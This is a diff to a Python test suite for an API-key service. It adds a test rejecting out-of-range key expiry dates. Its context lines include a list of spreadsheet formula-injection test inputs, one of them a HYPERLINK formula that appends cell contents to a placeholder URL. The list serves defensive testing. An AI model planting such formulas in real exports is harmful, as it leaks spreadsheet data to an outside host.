@@ -19,6 +19,7 @@ from meterproxy.errors import Case, StoreUnavailable
 from meterproxy.store.keys import Keys
 from meterproxy.store.people import FREE_FAILURES
 from tests.control.asking import ADMIN_TOKEN, PASSWORD, Asking, Heard, Person
+from tests.dashboard.visitor import Visitor
 from tests.ledger.bank import pool_of
 
 
@@ -315,6 +316,23 @@ async def test_odd_ids_and_texts_are_told_as_what_they_are(asking: Asking) -> No
     for cursor in cursors:
         heard = await asking("GET", f"/api/user/activity?cursor={cursor}", token=owner.token)
         assert heard.status in {200, 400}, cursor
+
+
+@pytest.mark.parametrize("instant", [
+    "0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "9999-12-31T23:59:59.999999Z", "9999-12-31T23:59:59-14:00",
+    "0001-01-01T00:00:00+14:00",
+])  # fmt: skip
+async def test_no_key_ends_at_an_instant_that_no_page_can_show(asking: Asking, instant: str) -> None:
+    """One member's key would take the page of keys from everybody in the organization."""
+    owner = await asking.person("owner")
+    key = await asking("POST", "/api/keys", {"name": "k", "expires_at": "9999-12-31T23:59:59Z"}, token=owner.token)
+    assert key.status == 201
+    for method, path in (("POST", "/api/keys"), ("PATCH", f"/api/keys/{key.body['id']}")):
+        refused = await asking(method, path, {"name": "k", "expires_at": instant}, token=owner.token)
+        assert (refused.status, refused.param) == (400, "expires_at")
+    visitor = await Visitor.of(asking, owner)
+    for path in ("/keys", f"/keys/{key.body['id']}"):
+        assert (await visitor.get(path)).status == 200
 
 
 FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", '=HYPERLINK("http://x?"&A1,"x")']
